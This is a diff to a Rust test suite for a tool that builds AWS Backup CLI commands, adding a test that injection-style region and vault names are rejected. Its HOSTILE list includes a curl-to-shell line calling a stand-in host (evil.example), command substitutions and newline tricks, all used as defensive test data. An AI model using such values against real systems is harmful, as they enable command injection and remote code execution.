@@ -7,6 +7,7 @@ mod common;
 use common::{CLOSING, account, now};
 use evidence::commands::Asked;
 use evidence::kind::Kind;
+use evidence::problem::Problem;
 
 fn commands(kind: Kind, regions: &[&str], vaults: &[&str]) -> Vec<String> {
     let texts = |names: &[&str]| {
@@ -43,6 +44,40 @@ fn one_for_each_region_and_vault() {
         commands(Kind::CopyJobs, &[], &[]),
         ["aws backup list-copy-jobs --region REGION --output json"]
     );
+}
+
+/// Names that a shell reads as more than a word.
+const HOSTILE: [&str; 12] = [
+    "eu-west-1; curl -s https://evil.example/x|sh #",
+    "us-east-1 && id",
+    "$(id)",
+    "`id`",
+    "eu-west-2\nid",
+    "eu-west-2\u{2028}id",
+    "--endpoint-url",
+    "a'b",
+    "a\"b",
+    "a\\b",
+    "~",
+    "",
+];
+
+#[test]
+fn nothing_from_a_file_becomes_more_than_a_word() {
+    for name in HOSTILE {
+        for kind in Kind::ALL {
+            let with = commands(*kind, &[name, "eu-west-1"], &[name]);
+            assert_eq!(with, commands(*kind, &["eu-west-1"], &[]), "{name:?}");
+        }
+        let text = serde_json::json!({ "Regions": [
+            { "RegionName": name, "RegionOptStatus": "ENABLED" },
+            { "RegionName": "eu-west-1", "RegionOptStatus": "ENABLED" },
+        ] });
+        let (source, facts) = common::file(text.to_string());
+        let regions = facts.regions.expect("one can be read");
+        assert_eq!(regions.in_use, ["eu-west-1"], "{name:?}");
+        assert!(source.problems.contains(&Problem::UnreadableElement));
+    }
 }
 
 #[test]
